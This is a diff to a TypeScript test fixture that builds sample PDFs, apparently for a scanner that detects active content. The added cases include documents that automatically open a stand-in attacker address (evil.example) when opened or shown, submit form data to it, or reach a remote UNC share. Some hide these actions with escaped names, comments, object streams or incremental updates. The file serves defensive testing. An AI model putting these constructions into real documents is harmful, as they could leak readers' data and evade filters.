@@ -44,6 +44,28 @@ const active: Record<string, Buffer> = {
   'an XFA form': plain(makePdf(['<< /XFA 5 0 R /Fields [] >>'], '/AcroForm 4 0 R')),
   'a Flash animation': withObject('<< /Subtype /RichMedia /RichMediaContent 5 0 R >>'),
   'a sound that runs a script': withObject('<< /S /Rendition /JS (1) /OP 0 >>'),
+  'an address to open at once': plain(makePdf([], '/OpenAction << /S /URI /URI (http://evil.example/) >>')),
+  'an address in another object': withObject('<< /S /URI /URI (http://evil.example/) >>', '/OpenAction 4 0 R'),
+  'an address in an object stream': packedPdf([
+    '<< /OpenAction 11 0 R >>',
+    '<< /S /URI /URI (http://evil.example/) >>',
+  ]),
+  'an address after a jump': withObject('<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '/OpenAction 4 0 R'),
+  'an address after a bracket in a string': plain(
+    makePdf([], '/OpenAction << /S /GoTo /D (>>) /S /URI /URI (http://evil.example/) >>'),
+  ),
+  'an address after a comment': plain(
+    makePdf([], '/OpenAction << /S /GoTo % >>\n /S /URI /URI (http://evil.example/) >>'),
+  ),
+  'an action on opening with an escaped name': plain(makePdf([], '/Open#41ction << /S /Named /N /Print >>')),
+  'an action on opening that is nowhere': plain(makePdf([], '/OpenAction 99 0 R')),
+  'an action that an update replaces': joined(
+    withObject('<< /S /GoTo /D [3 0 R /Fit] >>', '/OpenAction 4 0 R').subarray(0, -6),
+    makePdf(['<< /S /URI /URI (http://evil.example/) >>'], '/OpenAction 4 0 R').slice(9),
+  ),
+  'an action when a page is shown': plain(makePdf([], '/AA << /O << /S /URI /URI (http://evil.example/) >> >>')),
+  'a form that sends what was typed': withObject('<< /S /SubmitForm /F (http://evil.example/) >>'),
+  'a file on another computer': withObject('<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>'),
   'a jump into an attached file': withObject('<< /S /GoToE /T << /R /C >> >>'),
 };
 
@@ -122,6 +144,12 @@ export const harmlessDocuments: Record<string, Buffer> = {
   'a title about launching': withObject('<< /Title (How to Launch a boat, in JavaScript) >>'),
   'a form': plain(makePdf(['<< /Fields [] >>'], '/AcroForm 4 0 R')),
   'a jump to a page on opening': plain(makePdf([], '/OpenAction [3 0 R /Fit]')),
+  'a jump as an action on opening': plain(makePdf([], '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')),
+  'a jump in another object': withObject('<< /Type /Action /S /GoTo /D (a place) >>', '/OpenAction 4 0 R'),
+  'a destination in another object, and a link to an address': plain(
+    makePdf(['[3 0 R /Fit]', '<< /A << /S /URI /URI (http://academy.example/) >> >>'], '/OpenAction 4 0 R'),
+  ),
+  'a jump in an object stream': packedPdf(['<< /OpenAction 11 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>']),
   'objects in an object stream': packedPdf(['<< /Title (CDC) >>', '[1 2 3]']),
   'a picture with every byte': withObject(
     `<< /Length 512 >>\nstream\n${Buffer.from([...Array(512).keys()].map((n) => n % 256)).toString('latin1')}\nendstream`,
